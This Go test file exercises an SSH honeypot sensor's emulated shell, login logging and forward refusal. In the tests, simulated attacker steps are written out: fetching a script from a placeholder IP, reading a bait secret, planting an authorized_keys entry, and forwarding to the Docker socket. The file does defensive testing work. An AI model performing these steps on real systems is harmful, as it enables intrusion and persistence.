package ssh_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	xssh "golang.org/x/crypto/ssh"

	"honeyguide"
	"honeyguide/internal/sensor"
	"honeyguide/internal/sensor/sensortest"
	"honeyguide/internal/sensor/ssh"
)

const password = "abc123"

func always(into any) error {
	c := into.(*ssh.Config)
	c.Delay, c.Accept = 0, "always"
	return nil
}

// rig serves with the simple shell of the harness.
func rig(t testing.TB, config func(any) error) *sensortest.Rig {
	return sensortest.Start(t, ssh.Kind, sensortest.Options{Config: config, World: sensortest.NewWorld(t, sensortest.Simple)})
}

func dial(t testing.TB, r *sensortest.Rig, auth ...xssh.AuthMethod) *xssh.Client {
	t.Helper()
	if len(auth) == 0 {
		auth = []xssh.AuthMethod{xssh.Password(password)}
	}
	c, err := xssh.Dial("tcp", r.Addr, &xssh.ClientConfig{
		User: "root", Auth: auth,
		HostKeyCallback: xssh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	return c
}

func TestExec(t *testing.T) {
	r := rig(t, always)
	c := dial(t, r)
	for _, tc := range []struct {
		line, stdin, out, err string
		status                int
	}{
		{"echo hello", "", "hello\n", "", 0},
		{"fail 3", "", "", "failed\n", 3},
		{"fail 300", "", "", "failed\n", 44},
		{"cat", "from stdin\n", "from stdin\n", "", 0},
		{"nosuch", "", "", "-bash: nosuch: command not found\n", 127},
		{"big 300000", "", strings.Repeat("x", 300000), "", 0},
	} {
		s, err := c.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		var out, errs bytes.Buffer
		s.Stdin, s.Stdout, s.Stderr = strings.NewReader(tc.stdin), &out, &errs
		err = s.Run(tc.line)
		status := 0
		var exit *xssh.ExitError
		if errors.As(err, &exit) {
			status = exit.ExitStatus()
		} else if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		if out.String() != tc.out || errs.String() != tc.err || status != tc.status {
			t.Errorf("%s: %.40q, %q, %d", tc.line, out.String(), errs.String(), status)
		}
	}
	_ = c.Close()
	r.Sink.Wait(t, honeyguide.ActivityClose, 1)
	commands := r.Sink.Events(honeyguide.ActivityCommand)
	if len(commands) != 6 || commands[1].Str(honeyguide.AttrCommand) != "fail 3" || commands[1].Int(honeyguide.AttrStatus) != 3 {
		t.Errorf("command events: %+v", commands)
	}
	if got := r.Sink.Recording("", 'o'); !strings.Contains(got, "hello\n") {
		t.Errorf("recorded %.200q", got)
	}
}

func TestEveryAttemptIsReported(t *testing.T) {
	r := rig(t, quick)
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := xssh.NewSignerFromKey(key)
	if err != nil {
		t.Fatal(err)
	}
	tries := []string{"one", "", "tw\xff"}
	n := 0
	_, err = xssh.Dial("tcp", r.Addr, &xssh.ClientConfig{
		User: "root", HostKeyCallback: xssh.InsecureIgnoreHostKey(),
		Auth: []xssh.AuthMethod{xssh.PublicKeys(signer), xssh.RetryableAuthMethod(xssh.PasswordCallback(func() (string, error) {
			n++
			return tries[n-1], nil
		}), len(tries))},
	})
	if err == nil {
		t.Fatal("let in")
	}
	r.Sink.Wait(t, honeyguide.ActivityClose, 1)
	got := r.Sink.Events(honeyguide.ActivityLoginFailed)
	if len(got) != 4 {
		t.Fatalf("%d attempts reported, want 4: %+v", len(got), got)
	}
	if e := got[0]; e.Str(honeyguide.AttrAuthMethod) != "publickey" || e.Str(honeyguide.AttrKeyFingerprint) != xssh.FingerprintSHA256(signer.PublicKey()) {
		t.Errorf("key: %+v", e)
	}
	for i, want := range []string{"one", "", "tw\ufffd"} {
		if e := got[i+1]; e.Str(honeyguide.AttrPassword) != want || e.Str(honeyguide.AttrUser) != "root" || e.Class != honeyguide.ClassAuthentication {
			t.Errorf("password %d: %+v", i, e)
		}
	}
	client := r.Sink.Events(honeyguide.ActivityClient)
	if len(client) != 1 || client[0].Str(honeyguide.AttrClient) != "SSH-2.0-Go" || len(client[0].Str(honeyguide.AttrHASSH)) != 32 {
		t.Errorf("client: %+v", client)
	}
}

func TestSixTries(t *testing.T) {
	r := rig(t, quick)
	n := 0
	_, err := xssh.Dial("tcp", r.Addr, &xssh.ClientConfig{
		User: "root", HostKeyCallback: xssh.InsecureIgnoreHostKey(),
		Auth: []xssh.AuthMethod{xssh.RetryableAuthMethod(xssh.PasswordCallback(func() (string, error) { n++; return "wrong", nil }), 20)},
	})
	if err == nil || n != 6 {
		t.Errorf("%d tries: %v", n, err)
	}
	r.Sink.Wait(t, honeyguide.ActivityLoginFailed, 6)
}

func TestAKeyLeftBehindOpens(t *testing.T) {
	r := rig(t, always)
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := xssh.NewSignerFromKey(key)
	if err != nil {
		t.Fatal(err)
	}
	run(t, dial(t, r), "put /root/authorized_keys x") // a file elsewhere opens nothing
	if _, err := xssh.Dial("tcp", r.Addr, &xssh.ClientConfig{
		User: "root", Auth: []xssh.AuthMethod{xssh.PublicKeys(signer)},
		HostKeyCallback: xssh.InsecureIgnoreHostKey(),
	}); err == nil {
		t.Fatal("an unknown key opens")
	}
	c := dial(t, r)
	line := strings.TrimSpace(string(xssh.MarshalAuthorizedKey(signer.PublicKey())))
	run(t, c, "mkdir /root/.ssh")
	if out := run(t, c, "put /root/.ssh/authorized_keys "+line); out != "" {
		t.Fatal(out)
	}
	if out := run(t, dial(t, r, xssh.PublicKeys(signer)), "echo in"); out != "in\n" {
		t.Errorf("got %q", out)
	}
	ok := r.Sink.Events(honeyguide.ActivityLoginSuccess)
	if e := ok[len(ok)-1]; e.Str(honeyguide.AttrAuthMethod) != "publickey" {
		t.Errorf("last login: %+v", e)
	}
}

func run(t testing.TB, c *xssh.Client, line string) string {
	t.Helper()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	out, _ := s.CombinedOutput(line)
	return string(out)
}

// TestTypedAhead sends all commands and the end of input at once, as scripts do
// with ssh -tt: everything still runs.
func TestTypedAhead(t *testing.T) {
	r := sensortest.Start(t, ssh.Kind, sensortest.Options{Config: always})
	s, err := dial(t, r).NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm-256color", 24, 80, xssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	s.Stdin = strings.NewReader("echo $((40+2))\recho a\rexit 3\r")
	var out bytes.Buffer
	s.Stdout = &out
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	var exit *xssh.ExitError
	if err := s.Wait(); !errors.As(err, &exit) || exit.ExitStatus() != 3 {
		t.Errorf("exit: %v", err)
	}
	if got := out.String(); !strings.Contains(got, "\r42\r\n") || !strings.Contains(got, "\ra\r\n") || !strings.HasSuffix(got, "logout\r\n") {
		t.Errorf("seen %q", got)
	}
	if got := r.Sink.Events(honeyguide.ActivityCommand); len(got) != 3 {
		t.Errorf("commands: %+v", got)
	}
}

// TestTypedAheadLogout sends a command and Ctrl-D in one write, before there is
// a prompt and at the prompt: the command runs and the shell logs out.
func TestTypedAheadLogout(t *testing.T) {
	r := sensortest.Start(t, ssh.Kind, sensortest.Options{Config: always})
	c := dial(t, r)
	for i := range 24 {
		s, err := c.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		if err := s.RequestPty("xterm-256color", 24, 80, xssh.TerminalModes{}); err != nil {
			t.Fatal(err)
		}
		in, _ := s.StdinPipe()
		out, _ := s.StdoutPipe()
		if err := s.Shell(); err != nil {
			t.Fatal(err)
		}
		seen := &screen{r: out}
		switch i % 3 {
		case 1:
			seen.until(t, "Linux") // the shell starts about now
		case 2:
			seen.until(t, "# ")
		}
		_, _ = io.WriteString(in, "echo $((40+2))\n\x04")
		stop := time.AfterFunc(20*time.Second, func() { _ = c.Close() })
		err = s.Wait()
		if !stop.Stop() || err != nil {
			t.Fatalf("loop %d does not log out: %v; seen %q", i, err, seen.text)
		}
		if got := seen.all(t); !strings.Contains(got, "\r42\r\n") || !strings.HasSuffix(got, "logout\r\n") {
			t.Errorf("loop %d: seen %q", i, got)
		}
	}
}

// TestExitSignal compares the last request of a channel with what sshd sends
// for a command that a signal ended.
func TestExitSignal(t *testing.T) {
	c := dial(t, sensortest.Start(t, ssh.Kind, sensortest.Options{Config: always}))
	text := func(s string) string { return string(xssh.Marshal(struct{ S string }{s})) }
	for _, tc := range []struct{ line, name, payload string }{
		{"kill -9 $$", "exit-signal", text("KILL") + "\x00" + text("") + text("")},
		{"sh -c 'kill -TERM $$'", "exit-signal", text("TERM") + "\x00" + text("") + text("")},
		{"kill -BUS $$", "exit-signal", text("SIG@openssh.com") + "\x00" + text("") + text("")},
		{"f() { f; }; f", "exit-signal", text("SEGV") + "\x00" + text("") + text("")},
		{"sh -c 'kill -9 $$'; exit $?", "exit-status", "\x00\x00\x00\x89"},
		{"exit 137", "exit-status", "\x00\x00\x00\x89"},
		{"trap 'exit 3' TERM; kill $$", "exit-status", "\x00\x00\x00\x03"},
	} {
		ch, requests, err := c.OpenChannel("session", nil)
		if err != nil {
			t.Fatal(err)
		}
		if ok, err := ch.SendRequest("exec", true, []byte(text(tc.line))); !ok || err != nil {
			t.Fatal(ok, err)
		}
		go io.Copy(io.Discard, ch)
		var got []string
		for r := range requests {
			got = append(got, r.Type+string(r.Payload))
		}
		if len(got) != 1 || got[0] != tc.name+tc.payload {
			t.Errorf("%s: %q", tc.line, got)
		}
	}
}

func TestTerminal(t *testing.T) {
	r := rig(t, always)
	s, err := dial(t, r).NewSession()
	if err != nil {
		t.Fatal(err)
	}
	_ = s.Setenv("LC_ALL", "C")
	if err := s.Setenv("EVIL", "1"); err == nil {
		t.Error("any variable may be set")
	}
	if err := s.RequestPty("xterm", 30, 100, xssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	in, _ := s.StdinPipe()
	out, _ := s.StdoutPipe()
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	seen := &screen{r: out}
	seen.until(t, "$ ")
	if !strings.Contains(seen.text, "ABSOLUTELY NO WARRANTY") {
		t.Errorf("greeting %q", seen.text)
	}
	_, _ = io.WriteString(in, "size\r")
	seen.until(t, "100x30 xterm\r\n")
	_ = s.WindowChange(50, 120)
	_, _ = s.SendRequest("keepalive@openssh.com", true, nil) // the change is seen now
	_, _ = io.WriteString(in, "size\r")
	seen.until(t, "120x50")
	_, _ = io.WriteString(in, "cat "+sensortest.BaitPath+"\r")
	seen.until(t, sensortest.BaitSecret)
	_, _ = io.WriteString(in, "fetch http://198.51.100.1/x.sh\rfail 2\rexit\r")
	seen.until(t, "logout")
	var exit *xssh.ExitError
	if err := s.Wait(); !errors.As(err, &exit) || exit.ExitStatus() != 2 {
		t.Errorf("exit: %v", err)
	}
	exposed := r.Sink.Wait(t, honeyguide.ActivityTokenExposed, 1)
	if exposed[0].Str(honeyguide.AttrCommand) != "cat "+sensortest.BaitPath {
		t.Errorf("exposure: %+v", exposed[0])
	}
	if d := r.Sink.Wait(t, honeyguide.ActivityDownload, 1); d[0].Str(honeyguide.AttrURL) != "http://198.51.100.1/x.sh" {
		t.Errorf("download: %+v", d[0])
	}
	id := exposed[0].Session
	if got := r.Sink.Recording(id, 'r'); got != "100x30120x50" {
		t.Errorf("sizes recorded: %q", got)
	}
	if got := r.Sink.Recording(id, 'i'); !strings.HasPrefix(got, "size\rsize\rcat ") {
		t.Errorf("typed: %q", got)
	}
	if got := r.Sink.Recording(id, 'o'); got != seen.all(t) {
		t.Errorf("recorded %q, seen %q", got, seen.text)
	}
}

// screen reads until a text appears.
type screen struct {
	r    io.Reader
	text string
	at   int // behind what was waited for
}

func (s *screen) until(t testing.TB, want string) {
	t.Helper()
	buf := make([]byte, 4096)
	for !strings.Contains(s.text[s.at:], want) {
		n, err := s.r.Read(buf)
		s.text += string(buf[:n])
		if err != nil && !strings.Contains(s.text[s.at:], want) {
			t.Fatalf("%v before %q; seen %q", err, want, s.text)
		}
	}
	s.at += strings.Index(s.text[s.at:], want) + len(want)
}

// all reads to the end.
func (s *screen) all(t testing.TB) string {
	t.Helper()
	b, err := io.ReadAll(s.r)
	if err != nil {
		t.Fatal(err)
	}
	s.text += string(b)
	return s.text
}

func TestForwardsAreReportedAndRefused(t *testing.T) {
	r := rig(t, always)
	c := dial(t, r)
	if _, err := c.Dial("tcp", "192.0.2.80:25"); err == nil || !strings.Contains(err.Error(), "Connection refused") {
		t.Errorf("forward: %v", err)
	}
	if _, err := c.Listen("tcp", "0.0.0.0:9999"); err == nil {
		t.Error("a remote forward is granted")
	}
	if _, err := c.Dial("unix", "/run/docker.sock"); err == nil {
		t.Error("a forward to a socket is granted")
	}
	if _, _, err := c.OpenChannel("weird", nil); err == nil {
		t.Error("a channel of no known type is opened")
	}
	got := r.Sink.Wait(t, honeyguide.ActivityTunnel, 3)
	if got[0].Str("dst_endpoint.name") != "192.0.2.80:25" || got[1].Str("dst_endpoint.name") != "0.0.0.0:9999" {
		t.Errorf("tunnels: %+v", got)
	}
	s, _ := c.NewSession()
	if err := s.RequestSubsystem("netconf"); err == nil {
		t.Error("a subsystem sshd does not know is granted")
	}
	if ok, _, _ := c.SendRequest("keepalive@openssh.com", true, nil); ok {
		t.Error("an unknown global request is granted")
	}
}

// TestRequestsOfASession compares what is granted with what OpenSSH 9.2p1 was
// seen to grant.
func TestRequestsOfASession(t *testing.T) {
	c := dial(t, rig(t, always))
	size := xssh.Marshal(struct{ C, R, W, H uint32 }{80, 24, 0, 0})
	env := xssh.Marshal(struct{ Name, Value string }{"LANG", "C"})
	text := func(s string) []byte { return xssh.Marshal(struct{ S string }{s}) }
	for first := range 2 {
		ch, more, err := c.OpenChannel("session", nil)
		if err != nil {
			t.Fatal(err)
		}
		go xssh.DiscardRequests(more)
		for _, tc := range []struct {
			name    string
			payload []byte
			want    bool
		}{
			{"signal", text("TERM"), false},
			{"break", []byte{0, 0, 0, 0}, false},
			{"window-change", size, true},
			{"auth-agent-req@openssh.com", nil, first == 0},
			{"auth-agent-req@openssh.com", nil, false},
			{"env", env, true},
			{"subsystem", text("nosuch"), false},
			{"exec", text("wait"), true},
			{"window-change", size, true},
			{"env", env, false},
			{"exec", text("wait"), false},
			{"shell", nil, false},
		} {
			ok, err := ch.SendRequest(tc.name, true, tc.payload)
			if err != nil || ok != tc.want {
				t.Errorf("session %d, %s: %v, %v", first, tc.name, ok, err)
			}
		}
		_ = ch.Close()
	}
}

func TestSessionsAtATime(t *testing.T) {
	r := rig(t, func(into any) error { into.(*ssh.Config).MaxSessions = 2; return always(into) })
	c := dial(t, r)
	first, _ := c.NewSession()
	second, _ := c.NewSession()
	if _, err := c.NewSession(); err == nil {
		t.Error("a third session is opened")
	}
	_, _ = first.Close(), second.Close()
}

func TestAPanicEndsOneConnection(t *testing.T) {
	r := rig(t, always)
	other := dial(t, r)
	c := dial(t, r)
	s, _ := c.NewSession()
	if err := s.Run("panic"); err == nil {
		t.Error("no error")
	}
	if run(t, other, "echo alive") != "alive\n" {
		t.Error("the other connection is gone")
	}
	r.Sink.Wait(t, honeyguide.ActivityUnsupported, 1)
}

func TestADisconnectEndsTheCommand(t *testing.T) {
	r := rig(t, always)
	c := dial(t, r)
	s, _ := c.NewSession()
	if err := s.Start("wait"); err != nil {
		t.Fatal(err)
	}
	_ = c.Close()
	r.Sink.Wait(t, honeyguide.ActivityClose, 1)
	if got := r.Sink.Events(honeyguide.ActivityCommand); len(got) != 1 || got[0].Str(honeyguide.AttrCommand) != "wait" {
		t.Errorf("commands: %+v", got)
	}
}

func TestManyLoginsAtOnce(t *testing.T) {
	r := sensortest.Start(t, ssh.Kind, sensortest.Options{
		Config: always, World: sensortest.NewWorld(t, sensortest.Simple),
		Limits: sensor.Limits{PerSource: 1000},
	})
	var wg sync.WaitGroup
	for range 60 {
		c := dial(t, r)
		wg.Go(func() {
			if out := run(t, c, "echo x"); out != "x\n" {
				t.Errorf("got %q", out)
			}
		})
	}
	wg.Wait()
}

// openssh runs the machine's ssh with a password; the last argument is the
// command, "" for none.
func openssh(t *testing.T, r *sensortest.Rig, stdin string, args ...string) (string, string, error) {
	t.Helper()
	return opensshFrom(t, r, strings.NewReader(stdin), args...)
}

// learning is an input that stays open until the client knows three keys.
type learning struct{ path string }

func (l *learning) keys() int {
	b, _ := os.ReadFile(l.path)
	return bytes.Count(b, []byte("\n"))
}

func (l *learning) Read([]byte) (int, error) {
	for range 500 {
		if l.keys() == 3 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	return 0, io.EOF
}

func opensshFrom(t *testing.T, r *sensortest.Rig, stdin io.Reader, args ...string) (string, string, error) {
	t.Helper()
	path, err := exec.LookPath("ssh")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("no OpenSSH client on this machine, and nothing is skipped with CI=true")
		}
		t.Skip("no OpenSSH client on this machine; `make setup` installs it")
	}
	ask := filepath.Join(t.TempDir(), "ask")
	if err := os.WriteFile(ask, []byte("#!/bin/sh\necho "+password+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	host, port, _ := strings.Cut(r.Addr, ":")
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	// The first value of an option counts: those of the test come first.
	line := append([]string{"-F", "none", "-p", port}, args[:len(args)-1]...)
	line = append(line, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
		"-o", "NumberOfPasswordPrompts=1", "root@"+host)
	if last := args[len(args)-1]; last != "" {
		line = append(line, last)
	}
	cmd := exec.CommandContext(ctx, path, line...)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=none", "TERM=xterm")
	cmd.Stdin = stdin
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err = cmd.Run()
	return out.String(), errs.String(), err
}

func TestOpenSSHClient(t *testing.T) {
	r := rig(t, always)
	out, errs, err := openssh(t, r, "", "echo hello")
	if err != nil || out != "hello\n" {
		t.Fatalf("exec: %q, %v\n%s", out, err, errs)
	}
	_, _, err = openssh(t, r, "", "fail 7")
	var exit *exec.ExitError
	if !errors.As(err, &exit) || exit.ExitCode() != 7 {
		t.Errorf("exit status: %v", err)
	}
	out, errs, err = openssh(t, r, "echo one\rexit\r", "-tt", "")
	if err != nil || !strings.Contains(out, "$ echo one\r\none\r\n$ exit\r\nlogout\r\n") {
		t.Errorf("terminal: %q, %v\n%s", out, err, errs)
	}
	out, _, err = openssh(t, r, "echo a\necho b\n", "")
	if err != nil || out != "a\nb\n" {
		t.Errorf("script: %q, %v", out, err)
	}
	known := filepath.Join(t.TempDir(), "known_hosts")
	for _, algo := range []string{"ssh-ed25519", "rsa-sha2-256", "ecdsa-sha2-nistp256"} {
		_ = os.Remove(known)
		host := &learning{path: known}
		_, _, _ = opensshFrom(t, r, strings.NewReader(""), "-o", "UserKnownHostsFile="+known, "-o", "StrictHostKeyChecking=accept-new",
			"-o", "HostKeyAlgorithms=^"+algo, "cat")
		// A client learns from a host it knows.
		_, errs, _ = opensshFrom(t, r, host, "-o", "UserKnownHostsFile="+known, "-o", "UpdateHostKeys=yes",
			"-o", "StrictHostKeyChecking=accept-new", "-o", "HostKeyAlgorithms=^"+algo, "cat")
		if host.keys() != 3 {
			t.Errorf("%s: the client learnt %d of 3 keys: %s", algo, host.keys(), errs)
		}
	}
}
